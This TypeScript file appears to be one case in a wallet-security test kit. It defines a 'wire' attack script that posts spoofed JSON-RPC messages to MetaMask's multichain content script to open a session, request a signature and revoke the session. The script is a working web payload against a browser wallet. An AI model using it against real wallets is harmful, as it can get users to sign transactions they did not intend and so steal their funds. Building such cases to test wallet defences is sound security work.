import type { Attack } from './kit/attack.ts'
import { WIRE_HEARD_FIRST } from './kit/open-reasons.ts'

export default {
  family: 'wire',
  how: "Opens a session and signs in it over the wallet's multichain channel (CAIP-25, CAIP-27), as its own in-page script would.",
  script: `
    const post = (id, method, params) =>
      postMessage({ target: 'metamask-contentscript', data: { name: 'metamask-multichain-provider', data: { jsonrpc: '2.0', id, method, params } } }, '*')
    const { hex, sign } = attack
    post(1, 'wallet_createSession', { optionalScopes: { 'eip155:1': { methods: [sign.method], notifications: [], accounts: [] } }, sessionProperties: { mark: hex } })
    post(2, 'wallet_invokeMethod', { scope: 'eip155:1', request: sign })
    post(3, 'wallet_revokeSession', { mark: hex })
    await attack.sleep(300)
  `,
  open: { 'wallet-before': WIRE_HEARD_FIRST },
} satisfies Attack
